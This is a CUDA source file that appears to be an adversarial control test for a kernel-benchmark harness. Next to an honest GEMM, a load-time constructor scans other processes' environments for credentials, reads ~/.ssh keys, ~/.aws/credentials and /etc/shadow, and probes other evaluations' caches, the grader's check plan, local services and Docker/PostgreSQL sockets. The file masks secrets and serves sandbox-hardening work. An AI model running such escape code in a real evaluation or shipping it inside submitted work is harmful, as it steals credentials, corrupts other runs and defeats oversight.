/*
Adversarial control: fs_escape_all   (every filesystem and network escape at once, from a
constructor at load time and again from the first run() call)

Attack. Everything a candidate process could reach under the old harness, tried in one go:
  - environments of other processes: /proc/<pid>/environ for every visible pid, among them
    PID 1 and our parent (/proc/<ppid>/environ), looking for credentials (names with KEY,
    TOKEN, SECRET, PASSWORD, CREDENTIAL, AUTH);
  - the spec (argv[2] of /proc/self/cmdline): a timed-call check plan ("check_calls");
  - the caches under every cache root ($PTXBENCH_CACHE, $XDG_CACHE_HOME/ptxbench,
    $HOME/.cache/ptxbench, /root/.cache/ptxbench, the parent's --cache-dir): list
    reference/, build/, peak/, read a cached expected output and a build record, and write a
    probe file into each (removed again);
  - other evaluations' and other children's scratch folders: /dev/shm/ptxbench-*,
    $TMPDIR and /tmp/ptxbench-* (our own folder, from the spec, excepted): list and read;
  - the results store ($PTXBENCH_DB), ~/.ssh keys, ~/.netrc, ~/.aws/credentials, /etc/shadow;
  - the network: TCP to the evaluation service on 127.0.0.1:8737 and to 1.1.1.1:443; and
    host services behind pathname UNIX sockets (Docker, PostgreSQL, the D-Bus system bus),
    which a network namespace does not hide and Landlock's file rules do not cover.
Each success prints one line starting with ADV-FS-LEAK, ADV-FS-WROTE or ADV-NET-OK to stdout
and stderr (the log tail is in the record). Restraint: a credential's value is printed in
full only when it is the test's fake secret (PTXBENCH_TEST_SECRET...), otherwise as its first
4 characters and length, and files are reported by size, not content; a control must not
become the leak it tests for. Writes into /tmp, /dev/shm or $HOME are only noted
(ADV-FS-NOTE): a private mount there is harmless. The GEMM is honest (CUDA cores).

Test setup: OPENAI_API_KEY=PTXBENCH_TEST_SECRET_9f2c in the environment of `ptxbench eval`.
Old harness (as root): PASSED, with ADV-FS-LEAK lines for the parent's environment (the
key), the caches, /dev/shm/ptxbench-* and /etc/shadow, and ADV-FS-WROTE for the caches.
Now: allow-listed environment, PID namespace (no parent, no other processes), Landlock (only
system folders and its own private folder), network namespace, unprivileged user -> none of
these lines: PASSED, and no marker and no secret in the record.
*/
#include <cuda_bf16.h>
#include <cuda_runtime.h>

#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace {

// ---- a plain CUDA-core GEMM: 64x64 tiles, 16-deep K steps, 256 threads, 4x4 outputs each ----
__global__ void __launch_bounds__(256)
    cc_gemm(const __nv_bfloat16* __restrict__ A, const __nv_bfloat16* __restrict__ B,
            __nv_bfloat16* __restrict__ C, int M, int N, int K) {
  __shared__ float As[16][65], Bs[16][65];  // [k][row], padded
  const int tx = threadIdx.x & 15, ty = threadIdx.x >> 4;
  const int m0 = blockIdx.y * 64, n0 = blockIdx.x * 64;
  float acc[4][4] = {};
  for (int k0 = 0; k0 < K; k0 += 16) {
    for (int i = threadIdx.x; i < 64 * 16; i += 256) {
      const int r = i >> 4, k = i & 15, gk = k0 + k;
      As[k][r] = (m0 + r < M && gk < K) ? __bfloat162float(A[(size_t)(m0 + r) * K + gk]) : 0.f;
      Bs[k][r] = (n0 + r < N && gk < K) ? __bfloat162float(B[(size_t)(n0 + r) * K + gk]) : 0.f;
    }
    __syncthreads();
#pragma unroll
    for (int k = 0; k < 16; ++k)
#pragma unroll
      for (int i = 0; i < 4; ++i)
#pragma unroll
        for (int j = 0; j < 4; ++j)
          acc[i][j] = fmaf(As[k][ty + 16 * i], Bs[k][tx + 16 * j], acc[i][j]);
    __syncthreads();
  }
  for (int i = 0; i < 4; ++i) {
    const int m = m0 + ty + 16 * i;
    if (m >= M) continue;
    for (int j = 0; j < 4; ++j) {
      const int n = n0 + tx + 16 * j;
      if (n < N) C[(size_t)m * N + n] = __float2bfloat16_rn(acc[i][j]);
    }
  }
}

int launch_cc_gemm(const __nv_bfloat16* A, const __nv_bfloat16* B, __nv_bfloat16* C, int M, int N,
                   int K, cudaStream_t stream) {
  const dim3 grid((unsigned)((N + 63) / 64), (unsigned)((M + 63) / 64));
  if (grid.y > 65535u) return 20;
  cc_gemm<<<grid, 256, 0, stream>>>(A, B, C, M, N, K);
  return cudaGetLastError() == cudaSuccess ? 0 : 21;
}

std::string slurp(const std::string& path, size_t max = size_t(1) << 28) {
  std::string s;
  int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC | O_NONBLOCK);
  if (fd < 0) return s;
  char buf[65536];
  ssize_t n;
  while (s.size() < max && (n = read(fd, buf, sizeof buf)) > 0) s.append(buf, (size_t)n);
  close(fd);
  return s;
}

std::vector<std::string> split0(const std::string& s) {
  std::vector<std::string> out;
  for (size_t p = 0; p < s.size();) {
    size_t e = s.find('\0', p);
    if (e == std::string::npos) e = s.size();
    out.push_back(s.substr(p, e - p));
    p = e + 1;
  }
  return out;
}

// The child's spec: the argument after "__child" on our command line.
std::string spec_text() {
  std::vector<std::string> args = split0(slurp("/proc/self/cmdline"));
  for (size_t i = 0; i + 1 < args.size(); ++i)
    if (args[i] == "__child") return slurp(args[i + 1]);
  return "";
}

// Position of the value of "key" in a JSON text, or npos.
size_t json_value(const std::string& js, const char* key) {
  const std::string k = std::string("\"") + key + "\"";
  size_t p = js.find(k);
  if (p == std::string::npos || (p = js.find(':', p + k.size())) == std::string::npos)
    return std::string::npos;
  return js.find_first_not_of(" \t\r\n", p + 1);
}

std::string json_string(const std::string& js, const char* key) {
  size_t p = json_value(js, key);
  if (p == std::string::npos || js[p] != '"') return "";
  return js.substr(p + 1, js.find('"', p + 1) - p - 1);
}

// Where CacheRoot() puts the caches, and the evaluator's --cache-dir if it was given one.
std::vector<std::string> cache_roots() {
  std::vector<std::string> r;
  if (const char* c = getenv("PTXBENCH_CACHE"); c && *c) r.push_back(c);
  if (const char* x = getenv("XDG_CACHE_HOME"); x && *x) r.push_back(std::string(x) + "/ptxbench");
  if (const char* h = getenv("HOME"); h && *h) r.push_back(std::string(h) + "/.cache/ptxbench");
  r.push_back("/root/.cache/ptxbench");
  r.push_back("/tmp/ptxbench-cache");
  std::vector<std::string> parent =
      split0(slurp("/proc/" + std::to_string(getppid()) + "/cmdline"));
  for (size_t i = 0; i < parent.size(); ++i) {
    if (parent[i] == "--cache-dir" && i + 1 < parent.size()) r.insert(r.begin(), parent[i + 1]);
    if (parent[i].rfind("--cache-dir=", 0) == 0) r.insert(r.begin(), parent[i].substr(12));
  }
  return r;
}

std::vector<std::string> subdirs(const std::string& dir) {
  std::vector<std::string> out;
  if (DIR* d = opendir(dir.c_str())) {
    while (dirent* e = readdir(d))
      if (e->d_name[0] != '.') out.push_back(dir + "/" + e->d_name);
    closedir(d);
  }
  return out;
}

int g_found = 0;

void report(const char* marker, const std::string& what) {
  std::string clean;
  for (char c : what) clean += (c >= 32 && c < 127) ? c : '.';
  for (FILE* f : {stdout, stderr}) fprintf(f, "%s %s\n", marker, clean.c_str());
  fflush(stdout);
  fflush(stderr);
  if (strcmp(marker, "ADV-FS-NOTE") != 0) ++g_found;
}

bool secret_name(const std::string& name) {
  std::string up;
  for (char c : name) up += (c >= 'a' && c <= 'z') ? char(c - 32) : c;
  for (const char* w : {"KEY", "TOKEN", "SECRET", "PASSWORD", "CREDENTIAL", "AUTH"})
    if (up.find(w) != std::string::npos) return true;
  return false;
}

std::string shown(const std::string& value) {
  if (value.rfind("PTXBENCH_TEST_SECRET", 0) == 0) return value;
  return value.substr(0, 4) + "... (" + std::to_string(value.size()) + " chars)";
}

bool is_dir(const std::string& p) {
  struct stat st;
  return stat(p.c_str(), &st) == 0 && S_ISDIR(st.st_mode);
}

// Reads a file; reports it (by size) when that works.
void try_read(const std::string& path, const std::string& why) {
  int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC | O_NONBLOCK);
  if (fd < 0) return;
  char buf[4096];
  ssize_t n = read(fd, buf, sizeof buf);
  close(fd);
  if (n >= 0)
    report("ADV-FS-LEAK", "read " + path + " (" + why + ", " + std::to_string(n) + "+ bytes)");
}

void try_write(const std::string& dir, bool counts) {
  const std::string path = dir + "/adv-probe." + std::to_string(getpid());
  int fd = open(path.c_str(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
  if (fd < 0) return;
  close(fd);
  unlink(path.c_str());
  report(counts ? "ADV-FS-WROTE" : "ADV-FS-NOTE", "created " + path);
}

// Lists a folder; reports it when it has entries. Returns them.
std::vector<std::string> try_list(const std::string& dir, const std::string& why) {
  std::vector<std::string> entries = subdirs(dir);
  if (!entries.empty())
    report("ADV-FS-LEAK", "listed " + dir + " (" + why + ", " + std::to_string(entries.size()) +
                              " entries, e.g. " + entries[0].substr(dir.size() + 1) + ")");
  return entries;
}

void try_connect_tcp(const char* ip, int port) {
  int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (s < 0) return;
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_port = htons((uint16_t)port);
  inet_pton(AF_INET, ip, &a.sin_addr);
  bool ok = connect(s, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0;
  if (!ok) {
    pollfd p{s, POLLOUT, 0};
    int err = 0;
    socklen_t len = sizeof err;
    ok = poll(&p, 1, 300) == 1 && getsockopt(s, SOL_SOCKET, SO_ERROR, &err, &len) == 0 && err == 0;
  }
  close(s);
  if (ok) report("ADV-NET-OK", std::string("tcp ") + ip + ":" + std::to_string(port));
}

void try_connect_unix(const char* path) {
  int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (s < 0) return;
  sockaddr_un a{};
  a.sun_family = AF_UNIX;
  strncpy(a.sun_path, path, sizeof a.sun_path - 1);
  if (connect(s, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0)
    report("ADV-NET-OK", std::string("unix ") + path);
  close(s);
}

void escape_everything(const char* when) {
  g_found = 0;
  const std::string spec = spec_text();
  const std::string own_dir = json_string(spec, "out_dir");
  const std::string own_so = json_string(spec, "shared_object");
  const std::string own_so_dir =
      own_so.substr(0, own_so.rfind('/') == std::string::npos ? 0 : own_so.rfind('/'));
  auto own = [&](const std::string& p) {
    for (const std::string& o : {own_dir, own_so_dir})
      if (!o.empty() && (p == o || p.rfind(o + "/", 0) == 0)) return true;
    return false;
  };

  // Other processes' environments (PID 1 and the parent among them).
  for (const std::string& proc : subdirs("/proc")) {
    const std::string pid = proc.substr(6);
    if (pid.find_first_not_of("0123456789") != std::string::npos) continue;
    const std::string env = slurp(proc + "/environ", 1 << 20);
    for (size_t p = 0; p < env.size();) {
      size_t e = env.find('\0', p);
      if (e == std::string::npos) e = env.size();
      const std::string entry = env.substr(p, e - p);
      const size_t eq = entry.find('=');
      if (eq != std::string::npos && eq + 1 < entry.size() && secret_name(entry.substr(0, eq)))
        report("ADV-FS-LEAK", "environ of pid " + pid + ": " + entry.substr(0, eq + 1) +
                                  shown(entry.substr(eq + 1)));
      p = e + 1;
    }
  }

  // The spec: a check plan for the timed calls.
  if (json_value(spec, "check_calls") != std::string::npos)
    report("ADV-FS-LEAK", "the spec names the re-checked timed calls (check_calls)");

  // The caches.
  for (const std::string& root : cache_roots()) {
    if (own(root)) continue;
    for (const char* sub : {"reference", "build", "peak"}) {
      const std::string dir = root + "/" + sub;
      for (const std::string& entry : try_list(dir, "cache")) {
        if (is_dir(entry)) {
          for (const std::string& f : subdirs(entry))
            if (f.find(".f32") != std::string::npos || f.find("build.json") != std::string::npos) {
              try_read(f, "cache entry");
              break;
            }
        } else {
          try_read(entry, "cache entry");
        }
        break;
      }
      if (is_dir(dir)) try_write(dir, true);
    }
    if (is_dir(root)) try_write(root, true);
  }

  // Other evaluations' and children's scratch folders.
  std::vector<std::string> bases = {"/dev/shm", "/tmp"};
  if (const char* t = getenv("TMPDIR"); t && *t) bases.push_back(t);
  for (const std::string& base : bases)
    for (const std::string& d : subdirs(base)) {
      if (d.substr(base.size() + 1).rfind("ptxbench", 0) != 0 || own(d) || !is_dir(d)) continue;
      for (const std::string& f : try_list(d, "another evaluation's folder")) {
        if (own(f)) continue;
        if (!is_dir(f)) {
          try_read(f, "another evaluation's file");
          break;
        }
      }
    }

  // The results store and a few well-known secrets.
  if (const char* db = getenv("PTXBENCH_DB"); db && *db && db[0] == '/')
    try_read(db, "results store");
  const std::string home = getenv("HOME") ? getenv("HOME") : "/root";
  for (const std::string& f : {home + "/.ssh/id_rsa", home + "/.ssh/id_ed25519", home + "/.netrc",
                               home + "/.aws/credentials", std::string("/etc/shadow")})
    try_read(f, "credentials");

  // Places to leave something for a later candidate (noted, not counted).
  for (const std::string& d : {std::string("/tmp"), std::string("/dev/shm"), home})
    try_write(d, false);

  // The network.
  try_connect_tcp("127.0.0.1", 8737);
  try_connect_tcp("1.1.1.1", 443);
  // Pathname UNIX sockets: Landlock's file rules do not cover connect(2), and AF_UNIX sockets
  // stay allowed. PostgreSQL (the service's queue and results store) and the D-Bus system bus
  // are world-connectable by default.
  for (const char* path :
       {"/var/run/docker.sock", "/run/docker.sock", "/var/run/postgresql/.s.PGSQL.5432",
        "/run/postgresql/.s.PGSQL.5432", "/tmp/.s.PGSQL.5432", "/run/dbus/system_bus_socket"})
    try_connect_unix(path);

  fprintf(stderr, "fs_escape_all (%s): %d escapes worked\n", when, g_found);
  fflush(stderr);
}

__attribute__((constructor)) void at_load() { escape_everything("load"); }

}  // namespace

extern "C" int run(const __nv_bfloat16* A, const __nv_bfloat16* B, __nv_bfloat16* C, int M, int N,
                   int K, cudaStream_t stream) {
  if (M <= 0 || N <= 0 || K <= 0) return 1;
  static bool once = (escape_everything("first call"), true);
  (void)once;
  return launch_cc_gemm(A, B, C, M, N, K, stream);
}
